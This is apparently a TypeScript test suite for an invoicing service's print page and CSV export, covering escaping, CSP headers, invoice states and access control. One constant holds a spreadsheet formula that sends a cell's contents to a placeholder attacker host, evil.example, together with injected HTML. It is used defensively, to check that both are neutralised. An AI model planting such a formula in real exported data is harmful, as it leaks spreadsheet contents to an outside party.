import type { Test } from 'supertest';
import { readCsv } from './documents/csv-reader';
import { readPage } from './documents/page-reader';
import { BilledWork, type Draft } from './invoices/billed-work';
import { UNKNOWN } from './people';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"<b>Müller</b>")';

/** An answer whose body is taken as text, whatever its type. */
const asText = (test: Test) =>
  test.buffer(true).parse((response, done) => {
    const chunks: Buffer[] = [];
    response.on('data', (chunk: Buffer) => chunks.push(chunk));
    response.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
  });

describe('The files of an invoice', () => {
  let work: BilledWork;
  let draft: Draft;

  beforeAll(async () => {
    work = await BilledWork.start();
    const { client_id, project_id } = await work.aJob();
    await work.approved({ project_id, description: FORMULA });
    await work.approved({ project_id, started_at: '2026-03-31T20:00:00Z', duration_minutes: 20 });
    draft = await work.draft(client_id);
  });
  afterAll(() => work.service.close());

  const page = async (id: string) => (await work.people.admin.get(`/invoices/${id}/print`).expect(200)).text;
  const csv = (id: string) => asText(work.people.admin.get(`/invoices/${id}/csv`).expect(200));
  const fileOf = async (id: string) => {
    const { headers, body } = await csv(id);
    return { disposition: headers['content-disposition'], rows: readCsv(body).slice(1) };
  };

  it('are a page that is its own style and nothing else', async () => {
    const { headers, text } = await work.people.admin
      .get(`/invoices/${draft.id}/print`)
      .expect(200)
      .expect('Content-Type', 'text/html; charset=utf-8')
      .expect('Cache-Control', 'no-store');

    expect(headers['content-security-policy']).toMatch(
      /^default-src 'none'; style-src 'sha256-[\w+/=]{44}'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/,
    );
    expect(text).not.toContain('<b>');
    expect(readPage(text)).toMatchObject({
      facts: { 'Billed to': 'Acme', Period: '1 Mar 2026 to 31 Mar 2026', Time: '1:50', Total: '€220.00' },
      rows: [
        ['2 Mar 2026', 'Website', 'Mia', FORMULA, '1:30', '€120.00', '€180.00'],
        ['31 Mar 2026', 'Website', 'Mia', '', '0:20', '€120.00', '€40.00'],
      ],
      total: ['Total', '1:50', '', '€220.00'],
    });
  });

  it('are a CSV file that runs nothing', async () => {
    const { headers, body } = await csv(draft.id)
      .expect('Content-Type', 'text/csv; charset=utf-8')
      .expect('Cache-Control', 'no-store');

    expect(headers['content-disposition']).toBe(`attachment; filename="draft-${draft.id.slice(0, 8)}.csv"`);
    const common = ['', 'draft', 'Acme'];
    expect(readCsv(body).slice(1)).toEqual([
      [...common, '2026-03-02', 'Website', 'Mia', `'${FORMULA}`, '90', '1:30', '120.00', '180.00', 'EUR'],
      [...common, '2026-03-31', 'Website', 'Mia', '', '20', '0:20', '120.00', '40.00', 'EUR'],
    ]);
  });

  it('say that it is a draft, then carry its number, then say that it is void', async () => {
    const drafted = readPage(await page(draft.id));
    expect(drafted).toMatchObject({ mark: 'Draft', heading: 'Draft invoice' });

    const { number } = await work.finalize(draft.id);
    const finalized = readPage(await page(draft.id));
    expect(finalized).toMatchObject({ mark: undefined, heading: `Invoice ${number}` });
    expect(finalized.facts.Issued).toMatch(/^\d{1,2} [A-Z][a-z]+ \d{4}$/);
    expect(finalized.rows).toEqual(drafted.rows);
    const file = await fileOf(draft.id);
    expect(file.disposition).toBe(`attachment; filename="${number}.csv"`);
    expect(file.rows.map((row) => row.slice(0, 2))).toEqual(Array(2).fill([number, 'finalized']));

    await work.void(draft.id);
    const voided = readPage(await page(draft.id));
    expect(voided).toMatchObject({ mark: 'Void', heading: `Invoice ${number}`, rows: drafted.rows });
    expect((await fileOf(draft.id)).rows.map((row) => row.slice(0, 2))).toEqual(
      Array(2).fill([number, 'void']),
    );
  });

  it.each(['print', 'csv'])('are for admins: %s', async (file) => {
    for (const person of [work.people.member, work.people.viewer]) {
      const { body } = await person.get(`/invoices/${draft.id}/${file}`).expect(403);
      expect(body.code).toBe('forbidden');
    }
    await work.service.anonymous.get(`/invoices/${draft.id}/${file}`).expect(401);
  });

  it.each(['print', 'csv'])('are of an invoice that there is: %s', async (file) => {
    const missing = work.people.admin.get(`/invoices/${UNKNOWN}/${file}`);
    await missing.expect(404).expect('Content-Type', /^application\/problem\+json/);
    const { headers } = await work.people.admin.get(`/invoices/INV-0001/${file}`).expect(400);
    expect(headers['content-disposition']).toBeUndefined();
  });
});
